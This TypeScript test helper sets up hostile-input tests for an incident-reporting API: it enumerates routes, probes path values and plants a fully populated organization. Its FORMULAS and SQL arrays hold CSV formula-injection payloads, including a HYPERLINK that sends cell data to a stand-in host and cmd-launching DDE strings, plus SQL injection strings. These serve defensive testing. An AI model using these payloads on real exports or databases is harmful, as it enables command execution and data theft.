import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import sharp from 'sharp';
import { generateTotpSecret } from '../src/auth/totp.js';
import type { Database } from '../src/db/client.js';
import { ROLES } from '../src/policies/actor.js';
import { insertAlert, sampleAlertContent } from './alerts.js';
import { createUser } from './auth.js';
import { aguaPrietaDocument } from './incidents.js';
import { insertOrganization } from './organizations.js';
import { sessionHeaders } from './sessions.js';

/*
 * What the hostile-input tests share (docs/HOSTILE-INPUT.md): the payloads, the routes as the app itself
 * lists them, and an organization planted with one record of every kind a list or a lookup returns.
 */

/** Formula payloads, one per character a spreadsheet runs a cell from: =, +, -, @, tab, CR, LF. */
export const FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"ver")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C notepad\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1'];

/** A cell that starts like this is run by a spreadsheet instead of shown. */
export const RUNS_AS_FORMULA = /^[=+\-@\t\r\n]/;

/** SQL metacharacters: quotes, comments, stacked statements, LIKE and tsquery operators, placeholders. */
export const SQL = ["O'Brien", "'; drop table incidents; --", '" or ""="', "' OR '1'='1' --", '100% _x_ \\', '$1 $$ ::text', 'a) | !(b & c:*', '/* */ union select * from users --'];

/** Every cell of a CSV body, each with its header (or its position when the header itself is hostile). */
export function csvCells(body: string): Array<{ column: string; cell: string }> {
  const records = parse(body, { relax_column_count: false }) as string[][];
  const header = records[0] ?? [];
  return records.flatMap((record) => record.map((cell, i) => ({ column: header[i] ?? String(i), cell })));
}

/** encodeURIComponent, but a lone surrogate is sent as the raw (invalid) percent-escapes of its code unit. */
export function encode(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return [...text].map((c) => { try { return encodeURIComponent(c); } catch { return `%${(c.charCodeAt(0) >> 8).toString(16).padStart(2, '0')}%${(c.charCodeAt(0) & 255).toString(16).padStart(2, '0')}`; } }).join('');
  }
}

/** A query parameter as the OpenAPI document describes it. */
export interface QueryParameter {
  name: string;
  enum?: string[];
}

/** One registered /api/v1 route with what the OpenAPI document says it takes. */
export interface ApiRoute {
  method: string;
  url: string;
  access: string | undefined;
  /** Property names of its JSON body (empty when it takes none). */
  bodyFields: string[];
  query: QueryParameter[];
  /** Its `:name` path parameters, in order. */
  pathParams: string[];
}

type OpenApiDocument = {
  paths: Record<string, Record<string, {
    requestBody?: { content?: Record<string, { schema?: { properties?: Record<string, unknown> } }> };
    parameters?: { in: string; name: string; schema?: { enum?: string[] } }[];
  }>>;
};

/**
 * Every /api/v1 route the app registered (HEAD aside), from `app.registeredRoutes` and the OpenAPI
 * document, so that a route added later is attacked without anyone listing it.
 */
export function apiRoutes(app: FastifyInstance): ApiRoute[] {
  const document = app.swagger() as OpenApiDocument;
  return app.registeredRoutes
    .filter((r) => r.method !== 'HEAD' && r.url.startsWith('/api/v1/'))
    .map((r) => {
      const operation = document.paths[r.url.replace(/:([A-Za-z]+)/g, '{$1}')]?.[r.method.toLowerCase()];
      const schema = operation?.requestBody?.content?.['application/json']?.schema;
      return {
        method: r.method,
        url: r.url,
        access: r.access,
        bodyFields: Object.keys(schema?.properties ?? {}),
        query: (operation?.parameters ?? []).filter((p) => p.in === 'query').map((p) => ({ name: p.name, ...(p.schema?.enum ? { enum: p.schema.enum } : {}) })),
        pathParams: [...r.url.matchAll(/:([A-Za-z]+)/g)].map((m) => m[1]!),
      };
    });
}

/** The route's address with each `:param` replaced by the value given for it. */
export function fillPath(url: string, values: Record<string, string>): string {
  return url.replace(/:([A-Za-z]+)/g, (_m, name: string) => values[name] ?? '');
}

/**
 * The first combination of `candidates` for the route's path parameters that it answers with a 2xx for
 * the caller: an address that reaches a real record, found by trying rather than listed per route. A value
 * the route refuses the shape of (a 400 naming the parameter) is not tried for that parameter again.
 */
export async function reachablePathValues(app: FastifyInstance, route: ApiRoute, headers: Record<string, string>, candidates: readonly string[]): Promise<Record<string, string> | undefined> {
  const refused = new Set<string>();
  const combinations = route.pathParams.reduce<Record<string, string>[]>((partial, name) => partial.flatMap((values) => candidates.map((c) => ({ ...values, [name]: c }))), [{}]);
  for (const values of combinations) {
    if (Object.entries(values).some(([name, value]) => refused.has(`${name}=${value}`))) continue;
    const response = await app.inject({ method: 'GET', url: fillPath(route.url, values), headers });
    if (response.statusCode < 300) return values;
    if (response.statusCode === 400) {
      const details = (response.json() as { error?: { details?: { location?: string; field?: string }[] } }).error?.details ?? [];
      for (const d of details) if (d.location === 'path parameters' && d.field) refused.add(`${d.field}=${values[d.field]}`);
    }
  }
  return undefined;
}

/** An organization with its network and a person holding every role in both, with records of every kind. */
export interface PlantedOrganization {
  organizationId: string;
  networkId: string;
  userId: string;
  /** Session and CSRF headers of that person, second factor passed. */
  headers: Record<string, string>;
  /** Every id planted (organization, network, person, incident, note, report, invitation, token, evidence, alert, request, answer, signal, webhook). */
  ids: string[];
  /** Path values other than ids that lead to its records: a version number, and an early-warning rule (the instance's). */
  otherValues: string[];
}

/**
 * Plants an organization, its network and one record of each kind a signed-in list or lookup returns,
 * every free text carrying `marker`, created through the API as its own person (the alert, the signal and
 * the webhook, which need a published alert or an outside address, straight into their tables).
 */
export async function plantOrganization(app: FastifyInstance, database: Database, marker: string): Promise<PlantedOrganization> {
  const organizationId = (await insertOrganization(database, { name: `Albergue ${marker}`, stateCode: '26' })).id;
  const networkId = (await insertOrganization(database, { kind: 'network', name: `Red ${marker}` })).id;
  await database.db.insertInto('network_members').values({ network_id: networkId, organization_id: organizationId }).execute();
  const user = await createUser(database, {
    displayName: `Persona ${marker}`,
    memberships: [organizationId, networkId].map((id) => ({ organizationId: id, roles: ROLES })),
    totpSecret: generateTotpSecret(),
  });
  const headers = await sessionHeaders(database, user.id);
  const call = async (method: 'POST' | 'PUT', url: string, payload: Record<string, unknown>): Promise<{ id: string }> => {
    const response = await app.inject({ method, url, headers: { ...headers, 'idempotency-key': randomUUID() }, payload });
    if (response.statusCode >= 300) throw new Error(`${method} ${url} answered ${response.statusCode}: ${response.body}`);
    return response.json() as { id: string };
  };
  const document = aguaPrietaDocument({ title: `Incidente ${marker}`, narrative: `Relato ${marker}` });
  const incident = await call('POST', `/api/v1/organizations/${organizationId}/incidents`, { document });
  const note = await call('POST', `/api/v1/incidents/${incident.id}/notes`, { body: `Nota ${marker}` });
  const report = await call('POST', `/api/v1/organizations/${organizationId}/reports`, { whatHappened: `Una patrulla vigiló el albergue ${marker}.` });
  const invitation = await call('POST', `/api/v1/organizations/${organizationId}/invitations`, { email: `invitada-${randomUUID()}@test.vigia.local`, role: 'reporter' });
  const token = (await call('POST', `/api/v1/organizations/${organizationId}/api-tokens`, { name: `Token ${marker}`, permissions: ['incidents:read'] })) as unknown as { token: { id: string } };
  const photo = await sharp({ create: { width: 16, height: 16, channels: 3, background: { r: 0, g: 90, b: 160 } } }).jpeg().toBuffer();
  const evidence = await call('POST', `/api/v1/incidents/${incident.id}/evidence`, { length: photo.length, fileName: `foto-${marker}.jpg` });
  const received = await app.inject({ method: 'PATCH', url: `/api/v1/evidence/${evidence.id}/upload`, headers: { ...headers, 'content-type': 'application/offset+octet-stream', 'upload-offset': '0' }, payload: photo });
  if (received.statusCode !== 200) throw new Error(`could not upload the photo: ${received.body}`);
  const content = sampleAlertContent();
  const alert = await insertAlert(database, {
    networkId,
    status: 'draft',
    createdBy: user.id,
    incidentIds: [incident.id],
    content: { ...content, es: { ...content.es, title: `Alerta ${marker}` }, en: { ...content.en, title: `Alert ${marker}` } },
  });
  // A request of the alert to an authority, with an answer and its document.
  const requestId = randomUUID();
  await database.db.insertInto('alert_requests').values({ id: requestId, alert_id: alert.id, addressee_code: 'INM', addressee_name: JSON.stringify({ es: 'INM', en: 'INM' }), sent_on: '2026-11-01', due_on: '2026-12-01' }).execute();
  const answer = await call('POST', `/api/v1/alert-requests/${requestId}/responses`, { receivedOn: '2026-11-20', summary: `Respuesta ${marker}` });
  const pdf = await app.inject({ method: 'PUT', url: `/api/v1/alert-responses/${answer.id}/document`, headers: { ...headers, 'content-type': 'application/pdf' }, payload: Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n') });
  if (pdf.statusCode !== 201) throw new Error(`could not attach the answer's document: ${pdf.body}`);
  const signalId = randomUUID();
  await database.db
    .insertInto('signals')
    .values({ id: signalId, network_id: networkId, rule_id: 'severity', rule_version: 1, dedupe_key: `severity:${marker}`, figures: JSON.stringify({ kind: 'severity', incidents: 1, states: ['26'] }), incident_ids: [incident.id] })
    .execute();
  const webhookId = randomUUID();
  await database.db.insertInto('webhook_endpoints').values({ id: webhookId, network_id: networkId, url: `https://hooks.example.org/${encodeURIComponent(marker)}`, description: marker, secret_sealed: 'sealed' }).execute();
  return {
    organizationId,
    networkId,
    userId: user.id,
    headers,
    ids: [organizationId, networkId, user.id, incident.id, note.id, report.id, invitation.id, token.token.id, evidence.id, alert.id, requestId, answer.id, signalId, webhookId],
    otherValues: ['1', 'severity'],
  };
}
